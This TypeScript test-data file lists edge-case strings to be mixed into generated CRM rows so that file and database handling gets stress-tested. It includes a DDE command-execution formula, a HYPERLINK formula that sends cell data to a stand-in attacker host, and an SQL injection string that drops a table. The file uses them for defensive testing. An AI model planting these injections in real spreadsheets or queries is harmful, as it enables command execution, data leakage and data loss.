import { byte, nth } from './sql.ts'

/** Texts that break careless writers and readers of files; a real CRM has met them all. */
export const awkwardTexts = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  '+49 30 1234567',
  '@handle',
  '-1+2',
  '\t=1+1',
  'He said "call me", twice',
  'Berlin, Hamburg; München',
  'first line\nsecond line',
  'Windows line\r\nand another\r\n',
  'tab\tseparated\tvalues',
  '007',
  '12345678901234567890123',
  '1E10',
  '2026-01-02',
  'true',
  'NULL',
  '\\N',
  '\\.',
  'C:\\temp\\new\\"file".csv',
  "Robert'); DROP TABLE deals;--",
  '<b>bold</b> &amp; "quoted"',
  '  spaces on both sides  ',
  '',
  'مرحبا بالعالم – שלום',
  '東京特許許可局 (テスト)',
  '🚀 Q3 push 👩‍👩‍👧‍👦 🇩🇪',
  'Zu\u0308rich decomposed, a\u00a0no-break and a\u200bzero-width space',
  '_x000B_ and a vertical\u000btab',
  '{"json": ["in", "text"]}',
] as const

/**
 * `expr`, but an awkward text in rows 11–40 and in about one row of 256 after them: small demos have
 * them all, and the first page of a preview has none.
 */
export function awkwardAtTimes(expr: string, n: string, hash: string, slot: number): string {
  return `CASE WHEN ${n} BETWEEN 11 AND ${10 + awkwardTexts.length} OR ${byte(hash, slot)} = 0
    THEN ${nth(awkwardTexts, `${n} % ${awkwardTexts.length}`)} ELSE ${expr} END`
}
